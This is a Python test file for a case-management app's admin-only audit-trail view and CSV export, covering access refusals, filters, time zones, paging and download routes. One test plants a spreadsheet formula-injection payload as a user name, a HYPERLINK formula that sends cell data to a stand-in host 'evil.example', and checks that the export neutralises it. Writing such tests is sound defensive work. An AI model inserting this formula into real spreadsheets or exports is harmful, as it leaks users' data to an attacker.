"""The audit-trail page and its CSV export: admins only, filtered, paged, audited, and safe to
open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pytest
from sqlmodel import select
from starlette.testclient import TestClient

from caseapp import audit, cases
from caseapp.auth import sessions
from caseapp.db import session_scope
from caseapp.errors import PermissionDenied, ValidationFailed
from caseapp.models import AuditEvent
from caseapp.organisation import update_organisation
from caseapp.routes import http_routes
from caseapp.staff import create_user
from caseapp.trail import (
    PAGE_SIZE,
    TrailFilters,
    case_viewers,
    export_csv,
    safe_cell,
    search_events,
)
from tests.conftest import World

PASSWORD = "correct horse battery"


def _events(action: str) -> list[AuditEvent]:
    with session_scope() as db:
        return list(db.exec(select(AuditEvent).where(AuditEvent.action == action)
                            .order_by(AuditEvent.id)).all())


def _add_event(at: datetime, action: str, entity_type: str = "case", entity_id: int | None = 1,
               actor_id: int | None = None, **detail: object) -> None:
    with session_scope() as db:
        db.add(AuditEvent(at=at, actor_id=actor_id, action=action, entity_type=entity_type,
                          entity_id=entity_id, detail=json.dumps(detail) if detail else ""))


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("who", ["manager", "worker", "volunteer"])
def test_only_admins_read_or_export_the_trail_and_refusals_are_audited(world: World,
                                                                       who: str) -> None:
    actor = getattr(world, who)
    with pytest.raises(PermissionDenied):
        search_events(actor, TrailFilters())
    with pytest.raises(PermissionDenied):
        export_csv(actor, TrailFilters())
    denied = [e for e in _events("access.denied") if e.entity_type == "audit_trail"]
    assert [(e.actor_id, json.loads(e.detail)["attempted"]) for e in denied] == [
        (actor.id, "audit_trail.view"), (actor.id, "audit_trail.export")]
    assert _events("audit_trail.view") == [] and _events("audit_trail.export") == []


def test_admin_sees_newest_first_with_who_role_record_and_a_short_detail(world: World) -> None:
    cases.get_case(world.worker, world.case_worker)
    page = search_events(world.admin, TrailFilters())
    assert page.rows, "the world's setup and the view above are in the trail"
    first = page.rows[0]
    assert (first.who, first.role, first.action, first.record) == (
        "Wren Worker", "Case worker", "case.view", f"case {world.case_worker}")
    ids = [r.id for r in page.rows]
    assert ids == sorted(ids, reverse=True)
    created = next(r for r in page.rows if r.action == "user.create")
    assert created.who == "System" and "role:" in created.detail  # no actor: the command line


def test_each_filter_narrows_the_trail(world: World) -> None:
    cases.get_case(world.worker, world.case_worker)
    cases.get_case(world.manager, world.case_south)
    case_viewers(world.manager, world.case_south)  # "case.viewers": not found by "case.view"
    admin = world.admin

    by_who = search_events(admin, TrailFilters(who="wren"))
    assert by_who.rows and {r.who for r in by_who.rows} == {"Wren Worker"}
    by_email = search_events(admin, TrailFilters(who="mo.manager@"))
    assert by_email.rows and {r.who for r in by_email.rows} == {"Mo Manager"}

    family = search_events(admin, TrailFilters(action="case."))
    assert {r.action for r in family.rows} >= {"case.view", "case.create"}
    assert all(r.action.startswith("case.") for r in family.rows)
    assert {r.action for r in search_events(admin, TrailFilters(action="case")).rows} == \
        {r.action for r in family.rows}
    _add_event(datetime.now(UTC), "sign_in", "user", world.worker.id)
    _add_event(datetime.now(UTC), "sign_in.failed", "user", world.worker.id)
    assert {r.action for r in search_events(admin, TrailFilters(action="sign_in")).rows} == \
        {"sign_in", "sign_in.failed"}
    assert {r.action for r in search_events(admin, TrailFilters(action="sign_in.")).rows} == \
        {"sign_in.failed"}
    exact = search_events(admin, TrailFilters(action="case.view"))
    assert exact.rows and {r.action for r in exact.rows} == {"case.view"}

    one_case = search_events(admin, TrailFilters(record=f"case {world.case_south}"))
    assert one_case.rows and {r.record for r in one_case.rows} == {f"case {world.case_south}"}
    assert {r.record for r in search_events(
        admin, TrailFilters(record=f"case:{world.case_south}")).rows} == {f"case {world.case_south}"}
    users = search_events(admin, TrailFilters(record="user"))
    assert users.rows and all(r.record.startswith("user ") for r in users.rows)

    together = search_events(admin, TrailFilters(who="mo", action="case.view",
                                                 record=f"case {world.case_south}"))
    assert len(together.rows) == 1
    assert search_events(admin, TrailFilters(who="nobody-called-this")).rows == []
    with pytest.raises(ValidationFailed) as bad:
        search_events(admin, TrailFilters(record="case twelve"))
    assert "record" in bad.value.errors


def test_dates_are_days_in_the_organisations_time_zone(world: World) -> None:
    update_organisation(world.admin, "Caseline Test", "America/New_York")
    # 22:00 on 9 March in New York, already 10 March in UTC.
    _add_event(datetime(2026, 3, 10, 3, 0, tzinfo=UTC), "test.evening", actor_id=world.worker.id)
    _add_event(datetime(2026, 3, 10, 15, 0, tzinfo=UTC), "test.midday", actor_id=world.worker.id)

    def actions(**kw: str) -> set[str]:
        return {r.action for r in search_events(world.admin, TrailFilters(action="test.",
                                                                          **kw)).rows}

    assert actions(date_from="2026-03-09", date_to="2026-03-09") == {"test.evening"}
    assert actions(date_from="2026-03-10", date_to="2026-03-10") == {"test.midday"}
    assert actions(date_from="2026-03-09") == {"test.evening", "test.midday"}
    assert actions(date_to="2026-03-08") == set()
    with pytest.raises(ValidationFailed) as bad:
        search_events(world.admin, TrailFilters(date_from="9/3/2026"))
    assert "date_from" in bad.value.errors
    with pytest.raises(ValidationFailed) as backwards:
        search_events(world.admin, TrailFilters(date_from="2026-03-10", date_to="2026-03-09"))
    assert "date_to" in backwards.value.errors


def test_pages_of_fifty_newest_first(world: World) -> None:
    with session_scope() as db:
        for n in range(PAGE_SIZE + 7):
            audit.record(db, world.worker, "test.paged", "case", n)
    first = search_events(world.admin, TrailFilters(action="test.paged"))
    second = search_events(world.admin, TrailFilters(action="test.paged"), page=2)
    third = search_events(world.admin, TrailFilters(action="test.paged"), page=3)
    assert len(first.rows) == PAGE_SIZE and first.has_next and not first.has_previous
    assert len(second.rows) == 7 and not second.has_next and second.has_previous
    assert third.rows == []
    assert first.rows[0].record == f"case {PAGE_SIZE + 6}"
    assert second.rows[-1].record == "case 0"
    assert not {r.id for r in first.rows} & {r.id for r in second.rows}


def test_viewing_and_exporting_are_audited_with_the_filters(world: World) -> None:
    filters = TrailFilters(who="wren", action="case.")
    search_events(world.admin, filters, page=2)
    cases.get_case(world.worker, world.case_worker)
    exported = export_csv(world.admin, filters)
    views = _events("audit_trail.view")
    assert len(views) == 1 and views[0].actor_id == world.admin.id
    assert json.loads(views[0].detail) == {"filters": {"who": "wren", "action": "case."},
                                           "page": 2}
    exports = _events("audit_trail.export")
    assert len(exports) == 1
    detail = json.loads(exports[0].detail)
    assert detail["filters"] == {"who": "wren", "action": "case."}
    assert detail["rows"] == exported.rows == len(_rows(exported.csv)) - 1 >= 1
    # A view is not among its own results: only the earlier one is found.
    found = search_events(world.admin, TrailFilters(action="audit_trail.view")).rows
    assert [r.id for r in found] == [views[0].id]
    assert len(_events("audit_trail.view")) == 2


def test_the_csv_neutralises_spreadsheet_formulas(world: World) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    create_user(world.admin, evil, "evil@example.org", "case_worker", "North", PASSWORD)
    create_user(world.admin, "@SUM(1+1)", "at@example.org", "case_worker", "North", PASSWORD)
    exported = export_csv(world.admin, TrailFilters(action="user.create"))
    rows = _rows(exported.csv)
    assert rows[0][:5] == ["time_utc", "time_local", "who", "role", "action"]
    # user.create names the admin as actor; the names are in the staff list, so put them in the
    # trail as actors too.
    with session_scope() as db:
        from caseapp.models import User

        evil_id = db.exec(select(User.id).where(User.email == "evil@example.org")).one()
        at_id = db.exec(select(User.id).where(User.email == "at@example.org")).one()
    _add_event(datetime.now(UTC), "test.formula", actor_id=evil_id, note="-1+2")
    _add_event(datetime.now(UTC), "test.formula", actor_id=at_id)
    cells = [c for row in _rows(export_csv(world.admin, TrailFilters(action="test.")).csv)[1:]
             for c in row]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_cell(start + "1") == "'" + start + "1"
    assert safe_cell("plain") == "plain" and safe_cell(-3) == -3


def _client(email: str | None) -> TestClient:
    client = TestClient(http_routes())
    if email:
        token, _ = sessions.sign_in(email, PASSWORD)
        client.cookies.set(sessions.COOKIE_NAME, token)
    return client


def test_route_gives_admins_the_filtered_csv_as_an_uncached_download(world: World) -> None:
    cases.get_case(world.worker, world.case_worker)
    answer = _client("ada.admin@example.org").get(
        "/admin/audit-trail.csv", params={"action": "case.view", "who": "wren"})
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment")
    assert "no-store" in answer.headers["cache-control"]
    rows = _rows(answer.content.decode("utf-8-sig"))
    assert len(rows) == 2 and rows[1][2] == "Wren Worker" and rows[1][4] == "case.view"
    exported = _events("audit_trail.export")
    assert json.loads(exported[-1].detail)["filters"] == {"who": "wren", "action": "case.view"}
    bad = _client("ada.admin@example.org").get("/admin/audit-trail.csv", params={"from": "x"})
    assert bad.status_code == 422


@pytest.mark.parametrize("email", ["mo.manager@example.org", "wren.worker@example.org",
                                   "vi.volunteer@example.org", None])
def test_route_refuses_everyone_else(world: World, email: str | None) -> None:
    answer = _client(email).get("/admin/audit-trail.csv")
    assert answer.status_code == (401 if email is None else 403)
    assert "no-store" in answer.headers["cache-control"]
    assert "audit_trail" not in answer.text and "user.create" not in answer.text
    assert _events("audit_trail.export") == []


def test_the_page_state_shows_admins_the_trail_and_refuses_others(world: World) -> None:
    import asyncio

    from state.audit_trail_page import AuditTrailState
    from tests.test_states import _state

    cases.get_case(world.worker, world.case_worker)
    admin = _state(AuditTrailState, "ada.admin@example.org", "/audit-trail")
    assert asyncio.run(admin.load()) is None and admin.rows and admin.loaded
    asyncio.run(admin.apply_filters({"action": "case.view", "who": "wren"}))
    assert [r.action for r in admin.rows] == ["case.view"]
    assert admin.csv_href == "/admin/audit-trail.csv?who=wren&action=case.view"
    asyncio.run(admin.apply_filters({"date_from": "yesterday"}))
    assert "date_from" in admin.errors
    manager = _state(AuditTrailState, "mo.manager@example.org", "/audit-trail")
    assert "/cases" in str(asyncio.run(manager.load()))
    asyncio.run(manager.apply_filters({"action": "case."}))  # called anyway, as a client could
    assert manager.rows == [] and manager.error == "Only an admin can read the audit trail"
    signed_out = _state(AuditTrailState, None, "/audit-trail")
    assert "/sign-in" in str(asyncio.run(signed_out.go_to_page(2)))
